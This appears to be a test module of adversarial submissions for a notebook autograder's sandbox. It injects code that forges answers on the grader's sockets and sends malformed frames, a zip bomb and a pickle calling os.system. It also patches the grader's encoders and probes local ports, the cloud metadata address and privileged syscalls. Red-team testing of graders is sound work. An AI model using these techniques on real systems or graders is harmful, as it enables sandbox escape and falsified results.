"""Attacks on messages: forged ones to whoever judges, malicious replies, early answers; sockets and network."""

from ..submissions import RIGHT, answer, attack, insert

WIRE = "messages to the judge"
NETWORK = "network and sockets"
SEND = """
    import json, os, stat, struct

    def sockets():
        for descriptor in range(3, 300):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    yield descriptor
            except OSError:
                pass

    def frame(message, blob=b""):
        body = json.dumps(message).encode()
        return struct.pack("<II", len(body), len(blob)) + body + blob

    def send(raw):
        for descriptor in sockets():
            try:
                os.set_blocking(descriptor, True)
                os.write(descriptor, raw)
            except OSError:
                pass
"""


@attack(WIRE, shows=True)
def early_answers(book):
    """Sends answers to questions that have not been asked, with every number they could have."""
    insert(book, SEND)
    insert(book, """
        for number in range(1, 200):
            send(frame({"op": "answer", "id": number, "outcome": "returned", "value": 4, "result": 4, "status": "ok"}))
    """, before="double")


@attack(WIRE, shows=True)
def done_before_it_began(book):
    """Says that cells are done that have not been run."""
    insert(book, SEND)
    insert(book, """
        for number in range(1, 200):
            send(frame({"op": "done", "id": number, "content": {"status": "ok", "execution_count": number}}))
    """, before="double")


@attack(WIRE, shows=True)
def forged_results_on_the_socket(book):
    """Sends results and clearings of output for cells to come."""
    insert(book, SEND)
    insert(book, """
        for number in range(1, 200):
            for kind, content in (("clear_output", {"wait": False}),
                                  ("execute_result", {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1})):
                message = {"msg_type": kind, "header": {"msg_type": kind}, "parent_header": {}, "content": content, "metadata": {}}
                send(frame({"op": "message", "id": number, "msg": message}))
    """, before="double")


@attack(WIRE, shows=True)
def answers_from_within_an_answer(book):
    """While it is being asked, it answers itself on the socket, for this question and the next ones."""
    insert(book, SEND)
    answer(book, "double", """
        def double(number):
            for ahead in range(1, 400):
                send(frame({"op": "answer", "id": ahead, "outcome": "returned", "value": 2 * 2, "kind": "data"}))
            return -1
    """)


@attack(WIRE, shows=True)
def garbage_on_the_socket(book):
    """Writes bytes that are no message."""
    insert(book, SEND)
    insert(book, "send(os.urandom(5000))", before="double")


@attack(WIRE, shows=True)
def a_frame_of_four_gigabytes(book):
    """Announces a message of four gigabytes and sends none of it."""
    insert(book, SEND)
    insert(book, "send(struct.pack('<II', 0xFFFFFFFF, 0xFFFFFFFF) + b'{')", before="double")


@attack(WIRE, shows=True)
def a_deep_frame(book):
    """Sends a message nested a hundred thousand deep."""
    insert(book, SEND)
    insert(book, """
        body = b'{"op": "answer", "id": 1, "value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        send(struct.pack("<II", len(body), 0) + body)
    """, before="double")


@attack(WIRE, shows=True)
def a_pickle_for_the_judge(book):
    """Sends a pickle that would call a function where it is read."""
    insert(book, SEND)
    insert(book, """
        import pickle

        class Call:
            def __reduce__(self):
                return (os.system, ("touch /tmp/pickled-by-the-corpus",))

        for number in range(1, 100):
            send(frame({"op": "answer", "id": number, "kind": "pickle"}, pickle.dumps(Call())))
    """, before="double")


@attack(WIRE, shows=True)
def a_zip_bomb(book):
    """Sends a message that would unpack to gigabytes."""
    insert(book, SEND)
    insert(book, """
        import zlib
        bomb = zlib.compress(zlib.compress(bytes(20_000_000), 9), 9)
        send(frame({"op": "answer", "id": 1, "encoding": "zlib"}, bomb))
    """, before="double")


@attack(WIRE, shows=True)
def a_lying_tensor_header(book):
    """Sends tensor bytes whose header promises more than there is."""
    insert(book, SEND)
    insert(book, """
        header = json.dumps({"0": {"dtype": "F32", "shape": [10**9, 10**9], "data_offsets": [0, 4 * 10**18]}}).encode()
        for number in range(1, 100):
            send(frame({"op": "answer", "id": number}, struct.pack("<Q", len(header)) + header))
    """, before="double")


@attack(WIRE, shows=True)
def wrong_operations(book):
    """Sends operations that only the judge may send, or that nobody knows, and wrong types."""
    insert(book, SEND)
    insert(book, """
        for message in ({"op": "quit"}, {"op": "ask", "id": 3}, {"op": "callback", "id": 3, "name": "mean_square"},
                        {"op": 7}, {"op": "done", "id": "x"}, {"op": "answer"}, [], "text", None, {"id": -1}):
            send(frame(message))
    """, before="double")


@attack(WIRE)
def encoder_patched(book):
    """The functions that write replies in this process write other replies."""
    insert(book, """
        import sys

        for name, module in list(sys.modules.items()):
            if not name.startswith(("course.check.encoding", "course.check.seeing", "course.grading", "course.check.probe")):
                continue
            for member, value in list(vars(module).items()):
                if callable(value) and member.split("_")[0] in ("encode", "to", "dump", "dumps", "see", "describe"):
                    try:
                        setattr(module, member, lambda *a, **k: {"kind": "data", "value": True, "outcome": "returned"})
                    except (AttributeError, TypeError):
                        pass
    """)


@attack(WIRE)
def json_patched(book):
    """json.dumps in this process always writes a right answer."""
    insert(book, """
        import json
        original = json.dumps

        def dumps(thing, *a, **k):
            if isinstance(thing, dict) and thing.get("op") == "answer":
                thing = thing | {"value": 4, "outcome": "returned"}
            return original(thing, *a, **k)

        json.dumps = dumps
        json.JSONEncoder.encode = lambda self, thing: original(thing)
    """)


@attack(WIRE)
def agent_replaced(book):
    """The object in this process that runs what the judge asks for is replaced by one of its own."""
    insert(book, """
        import gc
        for one in gc.get_objects():
            kind = type(one)
            if kind.__name__ == "Agent":
                kind.handle = lambda self, message, blob: ({"status": "ok", "outcome": "returned", "value": 4}, b"")
    """)


@attack(WIRE)
def iopub_messages(book):
    """Messages on the kernel's own iopub socket: outputs cleared, results displayed, errors none."""
    insert(book, """
        shell = get_ipython()
        kernel = getattr(shell, "kernel", None)

        def after(result):
            for kind, content in (("clear_output", {"wait": False}),
                                  ("execute_result", {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1})):
                kernel.session.send(kernel.iopub_socket, kind, content, parent=shell.parent_header, ident=kind.encode())

        shell.events.register("post_run_cell", after)
    """)


@attack(WIRE)
def output_cleared_later(book):
    """After each cell a thread clears its output, the error with it."""
    insert(book, """
        import threading, time
        from IPython.display import clear_output

        def later(result):
            clear_output()
            threading.Timer(0.05, clear_output).start()

        get_ipython().events.register("post_run_cell", later)
        get_ipython().events.register("post_execute", lambda: clear_output())
    """)


@attack(WIRE)
def other_end_of_the_descriptor(book):
    """Closes its sockets and puts a pair of its own in their place, which answers everything with yes."""
    insert(book, SEND)
    insert(book, """
        import socket, threading

        def serve(mine):
            try:
                while mine.recv(65536):
                    mine.send(frame({"op": "answer", "id": 1, "value": 4}))
            except OSError:
                pass

        for descriptor in list(sockets()):
            mine, theirs = socket.socketpair()
            os.dup2(theirs.fileno(), descriptor)
            threading.Thread(target=serve, args=(mine,), daemon=True).start()
    """, before="double")


@attack(NETWORK)
def internet(book):
    """Asks the internet for the answers, and sends them what it has."""
    insert(book, """
        import socket, urllib.request
        for address in (("1.1.1.1", 53), ("8.8.8.8", 443)):
            try:
                with socket.create_connection(address, timeout=1):
                    print("FOUND network", address)
            except OSError as error:
                print(error)
        try:
            print("FOUND", socket.gethostbyname("example.org"))
        except OSError as error:
            print(error)
    """)


@attack(NETWORK)
def local_ports(book):
    """Knocks at this machine's ports: Jupyter, databases, metadata services."""
    insert(book, """
        import socket
        for port in (22, 80, 443, 5432, 6379, 8000, 8080, 8786, 8787, 8888, 8889):
            for host in ("127.0.0.1", "::1", "169.254.169.254"):
                try:
                    with socket.create_connection((host, port), timeout=0.1):
                        print("FOUND port", host, port)
                except OSError:
                    pass
    """)


@attack(NETWORK)
def unix_sockets(book):
    """Connects to every Unix socket that it can see, abstract ones too, and asks them to start a process."""
    insert(book, SEND)
    insert(book, """
        import socket
        try:
            names = {line.split()[7] for line in open("/proc/net/unix") if len(line.split()) > 7}
        except OSError:
            names = set()
        for folder in ("/tmp", "/run", "/var/run", os.getcwd()):
            for base, _, files in os.walk(folder):
                names.update(os.path.join(base, name) for name in files if name.endswith((".sock", "socket")))
        for name in sorted(names)[:200]:
            try:
                peer = socket.socket(socket.AF_UNIX)
                peer.settimeout(0.2)
                peer.connect("\\0" + name[1:] if name.startswith("@") else name)
                peer.send(frame({"op": "start", "id": 1, "files": {}}))
                print("FOUND socket", name, peer.recv(1000))
            except OSError:
                pass
    """, before="double")


@attack(NETWORK)
def packets_and_namespaces(book):
    """Opens raw sockets, netlink and new namespaces, mounts, changes its user."""
    insert(book, """
        import ctypes, os, socket
        libc = ctypes.CDLL(None, use_errno=True)
        for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW)):
            try:
                socket.socket(family, kind)
                print("socket", family)
            except OSError as error:
                print(error)
        for flags in (0x10000000, 0x00020000, 0x40000000):
            print("unshare", flags, libc.unshare(flags))
        print("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), "setuid", libc.setuid(0))
        print("keyctl", libc.syscall(250, 0, 0, 0, 0, 0), "bpf", libc.syscall(321, 0, 0, 0))
    """)


@attack(NETWORK)
def right_answers_from_a_server(book):
    """Listens where another student's process could ask for answers, and asks there itself."""
    insert(book, f"""
        import socket
        answers = {RIGHT["double"]!r}
        for address in ("\\0of-the-corpus", "/tmp/of-the-corpus", "/dev/shm/of-the-corpus"):
            try:
                server = socket.socket(socket.AF_UNIX)
                server.bind(address)
                server.listen()
            except OSError as error:
                print(error)
    """)
